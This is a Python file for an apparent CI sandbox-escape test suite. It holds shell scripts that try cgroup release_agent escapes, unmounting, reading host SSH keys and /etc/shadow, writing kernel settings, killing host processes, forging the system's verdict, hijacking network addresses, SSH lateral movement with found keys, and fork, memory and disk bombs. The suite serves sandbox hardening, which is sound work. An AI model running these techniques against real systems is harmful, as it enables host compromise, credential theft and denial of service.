"""The attacks of the escape suite, each the `ci.sh` of one change, as an
attacker's change would carry it. A script prints `ESCAPED: ...` for every
step that worked and `blocked: ...` for every step that did not; `{{NAME}}`
is replaced by the host path of that name (the attacker is told where the
host keeps its secrets, as if they had guessed). The bombs end with the
job failing on its limit, as they must. Where an attempt would change the
host if it worked, it writes back what is there or only asks the kernel
whether it may: the suite must not harm a host whose sandbox is broken.
"""

# Shell scripts read best one command a line, however long.
# ruff: noqa: E501

from __future__ import annotations

ATTACKS: dict[str, str] = {
    # The classic cgroup v1 escape: a release_agent runs as root on the host.
    "release-agent": r"""
mkdir -p /tmp/cg
root_on_host=$(sed -n 's/.*upperdir=\([^,]*\).*/\1/p' /proc/mounts | head -1)
printf '#!/bin/sh\ntouch {{MARKER}}\n' > /agent; chmod +x /agent
for how in "none,name=escape" "memory" "pids"; do
  if mount -t cgroup -o "$how" cgroup /tmp/cg 2>/dev/null; then
    echo "mounted cgroup $how (the node's own)"
    if echo "$root_on_host/agent" > /tmp/cg/release_agent 2>/dev/null; then
      echo "ESCAPED: release_agent of $how set"
    else
      echo "blocked: release_agent of $how"
    fi
    if mkdir /tmp/cg/escape 2>/dev/null; then
      echo 1 > /tmp/cg/escape/notify_on_release
      sh -c 'echo $$ > /tmp/cg/escape/cgroup.procs' && echo "ESCAPED: joined a new cgroup"
    else
      echo "blocked: new cgroup in $how"
    fi
    echo 1 > /tmp/cg/memory.limit_in_bytes 2>/dev/null && echo "ESCAPED: own memory limit changed"
    umount /tmp/cg
  else
    echo "blocked: mount cgroup $how"
  fi
done
""",
    # Unmount or re-bind what hides the host, to see what lies under it.
    "unmount-and-rebind": r"""
for m in /usr /sys /dev /dev/null; do
  if umount -l "$m" 2>/dev/null; then echo "ESCAPED: unmounted $m"; else echo "blocked: umount $m"; fi
done
mkdir -p /tmp/peek
if mount --bind / /tmp/peek 2>/dev/null; then
  ls /tmp/peek/usr/sbin/sshd >/dev/null 2>&1 && echo "ESCAPED: non-recursive bind of / shows /usr"
else
  echo "blocked: bind of /"
fi
for d in /work /home /srv /opt /root/.pyenv /var/lib/trunkgate {{DATA_DIR}}; do
  if [ -n "$(ls -A "$d" 2>/dev/null)" ]; then echo "ESCAPED: $d holds $(ls -A $d | head -3)"; else echo "blocked: $d is empty or absent"; fi
done
""",
    # Read what only the host may read.
    "read-secrets": r"""
for f in {{CONFIG}} {{CONFIG_SECRET}} {{DATA_SECRET}} {{STORE}} {{KEYS}}/id_ed25519 \
         /etc/ssh/ssh_host_ed25519_key /etc/ssh/ssh_host_rsa_key /root/.ssh/id_ed25519 \
         /root/.pyenv/version; do
  if head -c 200 "$f" 2>/dev/null | grep -q .; then echo "ESCAPED: read $f"; else echo "blocked: read $f"; fi
done
echo "shadow says: $(head -1 /etc/shadow)"
grep -rl --exclude-dir=src "host-secret-7f3a9c" /etc /var /root /home /opt /srv /tmp 2>/dev/null \
  | sed 's/^/ESCAPED: secret in /'
echo blocked: done
""",
    # Write host-wide kernel settings and devices.
    "write-host-kernel": r"""
if echo x > /dev/trunkgate-escape 2>/dev/null; then echo "ESCAPED: wrote /dev"; else echo "blocked: write /dev"; fi
if mknod /tmp/disk b 8 0 2>/dev/null; then echo "ESCAPED: mknod block device"; else echo "blocked: mknod"; fi
if mknod /tmp/mem c 1 1 2>/dev/null && head -c1 /tmp/mem >/dev/null 2>&1; then echo "ESCAPED: /dev/mem"; else echo "blocked: mknod /dev/mem"; fi
umount -l /proc/sys 2>/dev/null
for k in kernel/core_pattern kernel/panic vm/drop_caches kernel/modprobe; do
  v=$(cat /proc/sys/$k 2>/dev/null)
  if printf '%s\n' "$v" > /proc/sys/$k 2>/dev/null; then echo "ESCAPED: wrote /proc/sys/$k"; else echo "blocked: /proc/sys/$k"; fi
done
t=/sys/kernel/mm/transparent_hugepage/enabled
if [ -e $t ] && sed -n 's/.*\[\(.*\)\].*/\1/p' $t > $t 2>/dev/null; then echo "ESCAPED: wrote sysfs"; else echo "blocked: sysfs"; fi
# Permission checks that change nothing even where they succeed: opening
# the sysrq trigger writes no key; settimeofday(NULL, NULL) sets no time.
if python3 -c 'open("/proc/sysrq-trigger", "w")' 2>/dev/null; then echo "ESCAPED: sysrq"; else echo "blocked: sysrq"; fi
python3 -c 'import ctypes; l=ctypes.CDLL(None, use_errno=True); r=l.settimeofday(None, None); print("ESCAPED: set the clock" if r == 0 else "blocked: clock")'
if dmesg >/dev/null 2>&1; then echo "ESCAPED: read the kernel log"; else echo "blocked: kernel log"; fi
""",
    # Mount the kernel's own filesystems.
    "mount-kernel-filesystems": r"""
mkdir -p /tmp/m
for fs in debugfs bpf tracefs securityfs sysfs configfs; do
  if mount -t $fs $fs /tmp/m 2>/dev/null; then echo "ESCAPED: mounted $fs"; umount /tmp/m; else echo "blocked: mount $fs"; fi
done
if unshare --user --map-root-user true 2>/dev/null; then echo "ESCAPED: new user namespace"; else echo "blocked: new user namespace"; fi
if unshare --net true 2>/dev/null; then echo "ESCAPED: new network namespace"; else echo "blocked: new network namespace"; fi
python3 -c 'import ctypes; l=ctypes.CDLL(None, use_errno=True); r=l.syscall(321, 0, 0, 0); print("ESCAPED: bpf" if r >= 0 else "blocked: bpf")'
python3 -c 'import ctypes; l=ctypes.CDLL(None, use_errno=True); r=l.syscall(250, 0, 0, 0, 0, 0); print("ESCAPED: keyctl" if r >= 0 else "blocked: keyctl")'
python3 -c 'import ctypes; l=ctypes.CDLL(None, use_errno=True); r=l.syscall(425, 1, 0); print("ESCAPED: io_uring" if r >= 0 else "blocked: io_uring")'
""",
    # Kill a process of the host, or trunkgate itself.
    "kill-host-processes": r"""
if kill -9 {{CANARY_PID}} 2>/dev/null; then echo "ESCAPED: killed host pid {{CANARY_PID}}"; else echo "blocked: kill {{CANARY_PID}}"; fi
echo "processes seen: $(ls -d /proc/[0-9]* | wc -l)"
""",
    # Forge the verdict: write into trunkgate's own state.
    "forge-the-verdict": r"""
for f in {{DATA_DIR}}/forged {{STORE}} {{DATA_DIR}}/logs/forged; do
  if echo forged >> "$f" 2>/dev/null; then echo "ESCAPED: wrote $f"; else echo "blocked: write $f"; fi
done
""",
    # Take over another node's or the host's address, forge frames.
    "network-takeover": r"""
me=$(ip -4 -o addr show eth0 | awk '{print $4}' | cut -d/ -f1)
net=${me%.*}
if ip addr add $net.1/32 dev eth0 2>/dev/null; then echo "ESCAPED: took the gateway's address"; else echo "blocked: ip addr add"; fi
if ip link set eth0 address 02:00:00:00:00:01 2>/dev/null; then echo "ESCAPED: changed MAC"; else echo "blocked: MAC"; fi
python3 -c '
import socket
for family, kind in ((socket.AF_PACKET, socket.SOCK_RAW), (socket.AF_INET, socket.SOCK_RAW)):
    try:
        socket.socket(family, kind, 3 if family == socket.AF_PACKET else socket.IPPROTO_RAW)
        print("ESCAPED: raw socket", family)
    except PermissionError:
        print("blocked: raw socket", family)
'
""",
    # Log in to other nodes, or the host, with anything found on this node.
    "ssh-to-other-nodes": r"""
me=$(ip -4 -o addr show eth0 | awk '{print $4}' | cut -d/ -f1)
net=${me%.*}
keys=$(find / -xdev \( -name 'id_*' -o -name '*_key' -o -name '*.pem' \) -type f 2>/dev/null | grep -v '\.pub$')
echo "keys found: $(echo $keys | wc -w)"
open=$(python3 -c '
import socket, sys
net, me = sys.argv[1], sys.argv[2]
for n in range(1, 40):
    a = f"{net}.{n}"
    if a == me:
        continue
    s = socket.socket(); s.settimeout(0.3)
    try:
        s.connect((a, 22)); print(a)
    except OSError:
        pass
    finally:
        s.close()
' $net $me)
echo "reachable on port 22: ${open:-none}"
for a in $open; do
  for k in $keys; do
    if ssh -n -i "$k" -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=2 root@$a true 2>/dev/null; then
      echo "ESCAPED: logged in to $a with $k"
    fi
  done
done
echo "blocked: no login"
""",
    # Bombs: each must hit its limit and fail the job, hurting nothing else.
    "process-bomb": r"""
python3 -c '
import os, sys, time
children = 0
for _ in range(1000):
    try:
        pid = os.fork()
    except BlockingIOError:
        print(f"fork refused after {children} processes", flush=True)
        sys.exit(1)
    if pid == 0:
        os.close(1); os.close(2)
        time.sleep(60)
        os._exit(0)
    children += 1
print("ESCAPED: 1000 processes", flush=True)
'
""",
    "memory-bomb": r"""
python3 -c '
blocks = []
for n in range(64):
    blocks.append(b"x" * (64 << 20))
print("ESCAPED: 4 GiB allocated")
'
""",
    "disk-fill": r"""
dd if=/dev/zero of=/var/fill bs=1M count=1024 status=none || { echo "disk refused"; exit 1; }
echo "ESCAPED: 1 GiB written"
""",
}


def render(script: str, paths: dict[str, str]) -> str:
    for name, value in paths.items():
        script = script.replace("{{" + name + "}}", value)
    assert "{{" not in script, script
    return "set +e\n" + script
